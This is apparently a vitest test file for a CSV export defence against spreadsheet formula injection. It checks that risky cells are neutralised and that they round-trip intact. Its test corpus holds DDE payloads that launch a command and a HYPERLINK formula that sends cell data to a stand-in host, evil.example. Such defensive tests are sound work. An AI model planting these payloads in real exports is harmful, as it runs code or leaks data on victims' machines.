import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvLines } from "./cells";
import { inertText, plainText } from "./formula";

const corpus = [
  "=1+1",
  "+31 6 1234",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  '=HYPERLINK("http://evil.example?x="&A1,"Error")',
  "''=1",
  "'=1",
  "a,=1+1",
  "a;@SUM(1)",
  '"=1+1"',
  "a|+1",
  "a\n=1+1",
  "＝1+1",
];

describe("cells that a spreadsheet could run [S92]", () => {
  it.each(corpus)("%j is inert, and comes back as it was", (text) => {
    const inert = inertText(text);
    expect(inert).not.toMatch(/^[=+\-@＝＋－＠\t\r\n]/);
    expect(inert).not.toMatch(/[,;|"\t\r\n][=+\-@＝＋－＠]/);
    expect(plainText(inert)).toBe(text);
  });

  it("any text comes back as it was, through a file too", () => {
    const nasty = fc.string({ unit: fc.constantFrom("'", "=", "-", "@", ",", ";", '"', "\n", "\r", "\t", "a", "|") });
    fc.assert(
      fc.property(fc.array(fc.oneof(nasty, fc.string()), { minLength: 2, maxLength: 4 }), (texts) => {
        const [read] = parse(csvLines([texts]), { relax_column_count: true }) as string[][];
        expect(read?.map(plainText)).toEqual(texts);
        for (const cell of read ?? []) expect(cell).not.toMatch(/^[=+\-@\t\r\n]|[,;|"\t\r\n][=+\-@]/);
      }),
    );
  });

  it("numbers stay numbers", () => {
    expect(csvLines([[-5, 1.25, "-5", true, null]])).toBe(`-5,1.25,"'-5","yes",""\r\n`);
  });
});
